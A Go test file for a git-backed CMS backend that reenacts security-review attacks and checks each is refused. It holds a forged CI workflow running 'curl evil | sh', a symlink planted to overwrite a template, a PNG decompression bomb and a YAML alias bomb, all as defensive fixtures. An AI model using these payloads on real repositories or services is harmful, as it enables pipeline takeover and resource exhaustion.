package cms

import (
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"hash/crc32"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"

	"kmopsite/mdmerge"
	"kmopsite/yamledit"
)

// The attacks of the security review, each against the real backend over
// a site on disk: refused, with nothing written.

// initGit makes dir a git repository on branch main with one commit.
func initGit(t *testing.T, dir string) *gitRepo {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	g := &gitRepo{dir: dir}
	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"add", "."}, {"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "site"}} {
		if _, err := g.run(nil, args...); err != nil {
			t.Fatal(err)
		}
	}
	return g
}

// A tag named as a draft's branch (cms/pages/a) does not stand for the
// draft: listing, reading and publishing the draft use the branch, and
// the tag's commit (which rewrites a workflow) is never merged.
func TestTagNamedLikeDraft(t *testing.T) {
	dir := newSite(t)
	os.MkdirAll(filepath.Join(dir, ".github/workflows"), 0o755)
	const deploy = "on: push\njobs: {}\n"
	os.WriteFile(filepath.Join(dir, ".github/workflows/deploy.yml"), []byte(deploy), 0o644)
	g := initGit(t, dir)
	b := newBackend(t, dir)
	code, out := call(t, b, "persistEntry", map[string]any{
		"dataFiles": []map[string]string{{"slug": "a", "path": "content/nl/a.md", "raw": "---\ntitle: A in review\ndescription: Over A.\n---\n\nTekst.\n"}},
		"options":   map[string]any{"collectionName": "pages", "useWorkflow": true, "status": "draft"},
	})
	if code != 200 {
		t.Fatalf("persistEntry: %d %s", code, out)
	}
	// The attacker's commit, on no branch, tagged cms/pages/a.
	env := []string{"GIT_INDEX_FILE=" + filepath.Join(t.TempDir(), "index")}
	env = append(env, g.identity()...)
	for _, args := range [][]string{{"read-tree", "refs/heads/main"}} {
		if _, err := g.run(env, args...); err != nil {
			t.Fatal(err)
		}
	}
	sha, _ := g.runIn(env, []byte("on: push\njobs: {owned: {runs-on: x, steps: [{run: curl evil | sh}]}}\n"), "hash-object", "-w", "--stdin")
	g.run(env, "update-index", "--cacheinfo", "100644,"+strings.TrimSpace(sha)+",.github/workflows/deploy.yml")
	sha, _ = g.runIn(env, []byte("---\ntitle: owned\n---\n"), "hash-object", "-w", "--stdin")
	g.run(env, "update-index", "--cacheinfo", "100644,"+strings.TrimSpace(sha)+",content/nl/a.md")
	tree, _ := g.run(env, "write-tree")
	commit, err := g.run(env, "commit-tree", strings.TrimSpace(tree), "-p", "refs/heads/main", "-m", "evil")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := g.run(nil, "tag", "cms/pages/a", strings.TrimSpace(commit)); err != nil {
		t.Fatal(err)
	}

	if code, out := call(t, b, "unpublishedEntries", map[string]any{}); code != 200 || string(out) != "[\"pages/a\"]\n" {
		t.Errorf("unpublishedEntries: %d %s", code, out)
	}
	if code, out := call(t, b, "unpublishedEntryDataFile", map[string]any{"collection": "pages", "slug": "a", "path": "content/nl/a.md"}); code != 200 || !strings.Contains(string(out), "A in review") {
		t.Errorf("the draft's file as read: %d %s", code, out)
	}
	if code, out := call(t, b, "publishUnpublishedEntry", map[string]any{"collection": "pages", "slug": "a"}); code != 200 {
		t.Fatalf("publish: %d %s", code, out)
	}
	if got, _ := os.ReadFile(filepath.Join(dir, ".github/workflows/deploy.yml")); string(got) != deploy {
		t.Errorf("publishing the draft merged the tag's workflow:\n%s", got)
	}
	if got, _ := os.ReadFile(filepath.Join(dir, "content/nl/a.md")); !strings.Contains(string(got), "A in review") {
		t.Errorf("the published page is not the draft's:\n%s", got)
	}
	if !g.existsTag("cms/pages/a") {
		t.Error("publishing removed the tag instead of the branch")
	}
}

func (g *gitRepo) existsTag(name string) bool {
	_, err := g.run(nil, "rev-parse", "--verify", "--quiet", "refs/tags/"+name)
	return err == nil
}

// A rename goes only from a page to a new page; site.yaml and the words
// files are neither source nor target, no page is overwritten, and a
// refused rename writes nothing, not even its source.
func TestRenames(t *testing.T) {
	dir := newSite(t)
	b := newBackend(t, dir)
	before := snapshot(t, dir)
	save := func(p, newPath, raw string) map[string]any {
		return map[string]any{"dataFiles": []map[string]string{{"slug": "x", "path": p, "newPath": newPath, "raw": raw}}, "assets": []any{}, "options": map[string]any{}}
	}
	page := "---\ntitle: A, renamed\ndescription: Over A.\n---\n\nTekst.\n"
	for _, c := range []struct {
		name          string
		params        map[string]any
		code          int
		path, newPath string
	}{
		{name: "onto site.yaml", params: save("content/nl/a.md", "site.yaml", page), code: 403},
		{name: "site.yaml away", params: save("site.yaml", "content/nl/site.md", before[filepath.Join(dir, "site.yaml")]), code: 403},
		{name: "onto a words file", params: save("content/nl/a.md", "content/nl/interface.yaml", page), code: 403},
		{name: "a words file away", params: save("content/nl/interface.yaml", "content/nl/words.md", "home: x\n"), code: 403},
		{name: "onto another page", params: save("content/nl/a.md", "content/en/a.md", page), code: 409},
		{name: "out of a language", params: save("content/nl/a.md", "content/a.md", page), code: 403},
		{name: "a page that is not there", params: save("content/nl/none.md", "content/nl/new.md", page), code: 404},
	} {
		if code, out := call(t, b, "persistEntry", c.params); code != c.code {
			t.Errorf("%s: %d %s, want %d", c.name, code, out, c.code)
		}
		if after := snapshot(t, dir); !maps.Equal(before, after) {
			t.Errorf("%s: the refused rename changed the site", c.name)
			before = after
		}
	}
	if code, out := call(t, b, "persistEntry", save("content/nl/a.md", "content/nl/b/renamed.md", page)); code != 200 {
		t.Fatalf("a page renamed: %d %s", code, out)
	}
	if got, _ := os.ReadFile(filepath.Join(dir, "content/nl/b/renamed.md")); !strings.Contains(string(got), "A, renamed") {
		t.Errorf("renamed page:\n%s", got)
	}
	if _, err := os.Stat(filepath.Join(dir, "content/nl/a.md")); err == nil {
		t.Error("the page's old file is still there")
	}
}

// A symbolic link planted where a save's temporary file used to be is
// not written through: the temporary file has a random name and is made
// exclusively.
func TestSaveTemporaryFile(t *testing.T) {
	dir := newSite(t)
	target := filepath.Join(dir, "templates/layouts/page.html")
	tmpl, _ := os.ReadFile(target)
	for _, name := range []string{".a.md.cms-tmp", ".a.md.tmp"} {
		if err := os.Symlink("../../templates/layouts/page.html", filepath.Join(dir, "content/nl", name)); err != nil {
			t.Fatal(err)
		}
	}
	b := newBackend(t, dir)
	code, out := call(t, b, "persistEntry", map[string]any{"dataFiles": []map[string]string{{"path": "content/nl/a.md", "raw": "---\ntitle: A\ndescription: Over A.\n---\n\nalert(1)\n"}}, "options": map[string]any{}})
	if code != 200 {
		t.Fatalf("persistEntry: %d %s", code, out)
	}
	if got, _ := os.ReadFile(target); string(got) != string(tmpl) {
		t.Errorf("the save wrote through the planted link into the template:\n%s", got)
	}
	if got, _ := os.ReadFile(filepath.Join(dir, "content/nl/a.md")); !strings.Contains(string(got), "alert(1)") {
		t.Errorf("the page was not saved:\n%s", got)
	}
	left, _ := filepath.Glob(filepath.Join(dir, "content/nl/.*cms-tmp"))
	if len(left) != 1 { // the planted link only
		t.Errorf("temporary files left: %v", left)
	}
}

// lyingPNG is a valid PNG header that claims w×h pixels, with a few bytes
// of image data: decoding it would allocate w×h×4 bytes.
func lyingPNG(w, h uint32) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(typ string, data []byte) {
		binary.Write(&b, binary.BigEndian, uint32(len(data)))
		b.WriteString(typ)
		b.Write(data)
		binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(append([]byte(typ), data...)))
	}
	ihdr := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, w), h)
	chunk("IHDR", append(ihdr, 8, 2, 0, 0, 0))
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write([]byte{0})
	zw.Close()
	chunk("IDAT", z.Bytes())
	chunk("IEND", nil)
	return b.Bytes()
}

// An upload whose header claims more than 50 megapixels is refused from
// its header, before it is decoded.
func TestImagePixelBudget(t *testing.T) {
	dir := newSite(t)
	b := newBackend(t, dir)
	before := snapshot(t, dir)
	bomb := lyingPNG(200000, 200000)
	for _, c := range []struct {
		action string
		params map[string]any
	}{
		{"persistMedia", map[string]any{"asset": map[string]string{"path": "assets/img/bomb.png", "content": base64.StdEncoding.EncodeToString(bomb), "encoding": "base64"}}},
		{"persistEntry", map[string]any{"dataFiles": []map[string]string{{"path": "content/nl/a.md", "raw": "---\ntitle: A\n---\n\n![x](/assets/img/bomb.png)\n"}},
			"assets": []map[string]string{{"path": "assets/img/bomb.png", "content": base64.StdEncoding.EncodeToString(bomb), "encoding": "base64"}}, "options": map[string]any{}}},
	} {
		code, out := call(t, b, c.action, c.params)
		if code != 415 || !strings.Contains(string(out), "50 megapixels") {
			t.Errorf("%s of a %d-byte PNG of 200000×200000 pixels: %d %s", c.action, len(bomb), code, out)
		}
	}
	if !maps.Equal(before, snapshot(t, dir)) {
		t.Error("a refused image changed the site")
	}
	// Under the budget, a wide image is still scaled.
	code, out := call(t, b, "persistMedia", map[string]any{"asset": map[string]string{"path": "assets/img/wide.png", "content": base64.StdEncoding.EncodeToString(pngOf(t, 2000, 10)), "encoding": "base64"}})
	if code != 200 {
		t.Errorf("a 2000×10 PNG: %d %.200s", code, out)
	}
}

// aliasBomb is YAML whose aliases, nested depth deep, stand for 9^depth
// values.
func aliasBomb(depth int) string {
	var b strings.Builder
	b.WriteString("a0: &a0 [x, x, x, x, x, x, x, x, x]\n")
	for i := 1; i <= depth; i++ {
		p := "*a" + strconv.Itoa(i-1)
		b.WriteString("a" + strconv.Itoa(i) + ": &a" + strconv.Itoa(i) + " [" + strings.Repeat(p+", ", 8) + p + "]\n")
	}
	return b.String()
}

// YAML anchors and aliases are refused in what the CMS sends (front
// matter, words, site.yaml), whatever their nesting, without work that
// grows with what they stand for; so are more values than a file holds.
func TestYAMLAliasesRefused(t *testing.T) {
	dir := newSite(t)
	b := newBackend(t, dir)
	before := snapshot(t, dir)
	save := func(p, raw string) map[string]any {
		return map[string]any{"dataFiles": []map[string]string{{"path": p, "raw": raw}}, "options": map[string]any{}}
	}
	for _, c := range []struct {
		name   string
		params map[string]any
		code   int
	}{
		{"front matter", save("content/nl/a.md", "---\ntitle: A\n"+aliasBomb(8)+"---\n\nTekst.\n"), 400},
		{"a new page", save("content/nl/new.md", "---\ntitle: A\n"+aliasBomb(8)+"---\n\nTekst.\n"), 400},
		{"words", save("content/nl/interface.yaml", "home: Home\n"+aliasBomb(8)), 400},
		{"site.yaml", save("site.yaml", "contact:\n  email: &e x@example.be\n  phone: *e\n"), 400},
		{"too many values", save("content/nl/interface.yaml", "home: Home\nlist: ["+strings.Repeat("x, ", yamledit.MaxNodes)+"x]\n"), 413},
	} {
		code, out := call(t, b, "persistEntry", c.params)
		if code != c.code {
			t.Errorf("%s: %d %.300s, want %d", c.name, code, out, c.code)
		}
	}
	if !maps.Equal(before, snapshot(t, dir)) {
		t.Error("refused YAML changed the site")
	}
}

// The Markdown merge aligns lines in linear space: a long page with one
// line changed is merged in memory that grows with its length, not its
// square; a page longer than mdmerge.MaxLines is refused.
func TestLongPageMerge(t *testing.T) {
	dir := newSite(t)
	b := newBackend(t, dir)
	var body strings.Builder
	for i := range 9000 {
		body.WriteString("Regel " + strconv.Itoa(i) + " van de tekst.\n\n")
	}
	old := "---\ntitle: Lang\ndescription: Een lange pagina.\n---\n\n" + strings.TrimSuffix(body.String(), "\n")
	os.WriteFile(filepath.Join(dir, "content/nl/lang.md"), []byte(old), 0o644)
	edited := strings.Replace(old, "Regel 4000 van", "Regel 4000 (nieuw) van", 1)
	var m0, m1 runtime.MemStats
	runtime.ReadMemStats(&m0)
	code, out := call(t, b, "persistEntry", map[string]any{"dataFiles": []map[string]string{{"path": "content/nl/lang.md", "raw": edited}}, "options": map[string]any{}})
	runtime.ReadMemStats(&m1)
	if code != 200 {
		t.Fatalf("persistEntry: %d %s", code, out)
	}
	if got, _ := os.ReadFile(filepath.Join(dir, "content/nl/lang.md")); string(got) != edited {
		t.Errorf("the long page after its save differs from the edit")
	}
	// 18,000 lines each side: a table of old × new lines would be 1.3 GB.
	if alloc := m1.TotalAlloc - m0.TotalAlloc; alloc > 200<<20 {
		t.Errorf("merging an 18,000-line page allocated %d MB", alloc>>20)
	}
	huge := "---\ntitle: Lang\n---\n\n" + strings.Repeat("x\n", mdmerge.MaxLines+1)
	if code, out := call(t, b, "persistEntry", map[string]any{"dataFiles": []map[string]string{{"path": "content/nl/lang.md", "raw": huge}}, "options": map[string]any{}}); code != 413 {
		t.Errorf("a page of %d lines: %d %.200s", mdmerge.MaxLines+1, code, out)
	}
}
